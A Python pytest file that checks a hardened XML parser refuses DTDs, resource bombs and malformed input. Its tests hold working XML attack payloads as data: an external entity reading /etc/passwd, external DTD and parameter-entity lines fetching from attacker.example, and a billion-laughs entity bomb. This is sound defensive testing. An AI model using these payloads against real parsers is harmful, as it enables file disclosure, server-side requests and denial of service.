# SPDX-License-Identifier: EUPL-1.2

"""Attacks with XML, by name."""

import pytest

from cpa import XmlRefused, parse_xml


@pytest.mark.parametrize(
    "attack",
    [
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a/>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><a/>',
        b"<!DOCTYPE a><a/>",
    ],
    ids=["external entity", "external DTD", "parameter entity", "empty DTD"],
)
def test_xxe_and_every_other_dtd_is_refused(attack: bytes) -> None:
    with pytest.raises(XmlRefused, match="DTD"):
        parse_xml(attack)


def test_billion_laughs_is_refused_before_expansion() -> None:
    lines = ['<!ENTITY l0 "ha">'] + [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 20)]
    attack = f"<!DOCTYPE a [{''.join(lines)}]><a b='&l19;'>&l19;</a>".encode()
    with pytest.raises(XmlRefused, match="DTD"):
        parse_xml(attack)


def test_a_dtd_in_utf_16_is_refused_as_well() -> None:
    with pytest.raises(XmlRefused, match="DTD"):
        parse_xml('<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16"))


def test_the_word_doctype_in_text_is_no_dtd() -> None:
    assert parse_xml(b"<a><![CDATA[<!DOCTYPE a>]]></a>").text == "<!DOCTYPE a>"


def test_a_depth_bomb_is_refused() -> None:
    with pytest.raises(XmlRefused, match="deeper than 200"):
        parse_xml(b"<a>" * 201 + b"</a>" * 201)
    assert parse_xml(b"<a>" * 200 + b"</a>" * 200).tag == "a"


def test_a_very_deep_depth_bomb_is_refused() -> None:
    with pytest.raises(XmlRefused):
        parse_xml(b"<a>" * 100_000 + b"</a>" * 100_000)


def test_too_many_attributes_are_refused() -> None:
    attributes = " ".join(f'a{n}="1"' for n in range(201))
    with pytest.raises(XmlRefused, match="201 attributes"):
        parse_xml(f"<a {attributes}/>".encode())


def test_too_many_bytes_are_refused() -> None:
    with pytest.raises(XmlRefused, match="at most 10"):
        parse_xml(b"<abcdefghi/>", max_bytes=10)


@pytest.mark.parametrize("text", [b"", b"no xml", b"<a>", b"<a>&unknown;</a>", b"<a/><b/>", b"\xff\xfe<"])
def test_what_is_not_well_formed_is_refused(text: bytes) -> None:
    with pytest.raises(XmlRefused, match="not well-formed"):
        parse_xml(text)


def test_comments_and_white_space_stay_for_signatures() -> None:
    root = parse_xml(b"<a> <!-- kept --> <b/> </a>")
    assert [child.tail for child in root] == [" ", " "]
    assert len(root) == 2
